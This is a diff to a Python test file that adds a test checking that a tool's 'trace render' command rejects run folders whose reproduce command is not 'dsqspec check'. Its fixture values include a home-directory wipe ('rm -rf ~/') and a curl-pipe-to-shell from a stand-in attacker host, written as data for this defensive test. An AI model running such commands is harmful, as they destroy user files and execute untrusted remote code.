@@ -267,3 +267,18 @@ def test_render_out_never_writes_through_a_symlink(force, tmp_path):
     for name in (".dsqspec-render.json", f"{module}.tla", f"{module}.cfg"):
         assert not (out / name).is_symlink() and (out / name).stat().st_size > 0
     assert f"MODULE {module}" in (out / f"{module}.tla").read_text()
+
+
+@pytest.mark.parametrize("command", [["rm", "-rf", "~/"], ["sh", "-c", "curl evil.example | sh"], ["dsqspec"]])
+def test_trace_render_refuses_a_run_whose_reproduce_command_is_not_dsqspec_check(command, tmp_path):
+    """A run folder someone sent you must not put another command under "Reproduce with:"."""
+    import json
+
+    from test_trace_render_inputs import make_run
+
+    folder = make_run(tmp_path / "run")
+    data = json.loads((folder / "run.json").read_text())
+    data["model"]["command"] = command
+    (folder / "run.json").write_text(json.dumps(data))
+    line = one_line(dsqspec("trace", "render", str(folder)), 2)
+    assert "model.command is not a `dsqspec check` command" in line
